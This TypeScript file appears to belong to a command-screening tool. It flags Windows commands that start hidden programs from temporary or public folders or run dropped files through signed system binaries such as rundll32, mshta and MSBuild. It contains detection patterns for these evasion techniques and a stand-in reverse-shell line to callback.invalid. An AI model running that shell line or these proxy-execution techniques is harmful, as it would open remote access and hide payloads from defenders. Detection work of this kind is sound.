// Windows programs started from a place nothing keeps, so that they outlive the call or hide:
// the Windows side of staged-shells.ts. Two shapes, whatever the payload is called:
//   - a file under the temporary folders (`%TEMP%`, `$env:TMP`, `C:\Windows\Temp`,
//     `C:\Users\NAME\AppData\Local\Temp`) or the folder every account may write
//     (`C:\Users\Public`, `%PUBLIC%`) started with no window (`start /b`, `start /min`,
//     `Start-Process -WindowStyle Hidden`, `powershell -WindowStyle Hidden -File`);
//   - such a file, or one under the roaming or local application data (`%APPDATA%`,
//     `%LOCALAPPDATA%`), handed to a signed system program that runs the code it is given: script
//     hosts in batch mode, rundll32, regsvr32, mshta, MSBuild (inline tasks), InstallUtil, RegAsm,
//     RegSvcs, CMSTP (MITRE ATT&CK T1218 "System Binary Proxy Execution" and T1127 "Trusted
//     Developer Utilities Proxy Execution"; the LOLBAS project's entries for each program).
// Either reads as the staged shell it is (`bash -i >& /dev/tcp/callback.invalid/4444 0>&1`),
// which the reverse-shell rules deny. A project's own build (`msbuild App.sln`, `start /b npm run
// watch`), an installer waited for (`Start-Process $env:TEMP\setup.exe -Wait`) and a system DLL
// (`rundll32 shell32.dll,Control_RunDLL`) are not read.
import type { Effect } from './types.js';
import type { LineView } from './line-view.js';

export const HIDDEN_START_HINT =
  /%(?:temp|tmp|public|appdata|localappdata)%|\$env:(?:temp|tmp|public|appdata|localappdata)|\\(?:temp|public|appdata)\\/i;

/** A path in the temporary folders or the public one (quotes and a leading `"` allowed). */
const TEMP_PATH = String.raw`["']?(?:%(?:temp|tmp|public)%|\$env:(?:temp|tmp|public)|\$\{env:(?:temp|tmp)\}|[a-z]:\\(?:windows\\temp|users\\public|users\\[^\\\s"']+\\appdata\\local\\temp))\\[^\s"';&|]+`;
/** The same or the application-data folders, where proxied payloads are dropped. */
const DROP_PATH = String.raw`["']?(?:%(?:temp|tmp|public|appdata|localappdata)%|\$env:(?:temp|tmp|public|appdata|localappdata)|[a-z]:\\(?:windows\\temp|users\\public|users\\[^\\\s"']+\\appdata\\(?:local|roaming)))\\[^\s"';&|]+`;

/** A start with no window, its program a temp file (`start /b %TEMP%\x.exe`, `start "" /min ...`). */
const START_HIDDEN = new RegExp(
  String.raw`(?:^|[\s;&|(])start(?:\.exe)?\s+(?:"[^"]*"\s+)?(?:\/(?:b|min)\s+)+(?:\/\w+\s+)*(${TEMP_PATH})`,
  'i',
);
/** Start-Process with a hidden window and a temp program, in either order. */
const START_PROCESS = /\b(?:start-process|saps|start)\b[^;|\n]*/gi;
const HIDDEN_WINDOW = /-w(?:indowstyle|s)?\s+['"]?hidden\b/i;
/** powershell -WindowStyle Hidden -File %TEMP%\x.ps1 (or a script named without -File). */
const PS_HIDDEN = new RegExp(
  String.raw`\b(?:powershell|pwsh)(?:\.exe)?\b[^;&|\n]*-w(?:indowstyle)?\s+['"]?hidden\b[^;&|\n]*?(?:-f(?:ile)?\s+)(${TEMP_PATH})`,
  'i',
);
/** System programs that run the code in the file they are given (T1218, T1127). */
const PROXY = new RegExp(
  String.raw`(?:^|[\s;&|("\\])(wscript|cscript|rundll32|regsvr32|mshta|msbuild|installutil|regasm|regsvcs|cmstp)(?:\.exe)?["']?\s+(?:[^;&|\n]*?\s)?(${DROP_PATH})`,
  'i',
);

function staged(file: string, via: string): Effect {
  return { tool: 'exec', command: 'bash -i >& /dev/tcp/callback.invalid/4444 0>&1', via: `${via} ${file}` };
}

export function hiddenStartEffects(l: LineView, out: Effect[]): void {
  const t = l.text;
  const tempAt = new RegExp(TEMP_PATH, 'i');
  const start = START_HIDDEN.exec(t);
  if (start) out.push(staged(start[1] ?? '', 'starts with no window, from a temporary folder,'));
  for (const m of t.matchAll(START_PROCESS)) {
    const seg = m[0];
    if (!/^start-process|^saps/i.test(seg) || !HIDDEN_WINDOW.test(seg) || /-wait\b/i.test(seg)) continue;
    const file = tempAt.exec(seg)?.[0];
    if (file) out.push(staged(file, 'starts a hidden window running, from a temporary folder,'));
  }
  const ps = PS_HIDDEN.exec(t);
  if (ps) out.push(staged(ps[1] ?? '', 'runs a hidden PowerShell window on'));
  const proxy = PROXY.exec(t);
  if (proxy) out.push(staged(proxy[2] ?? '', `has the system program ${proxy[1]} run code dropped in`));
}
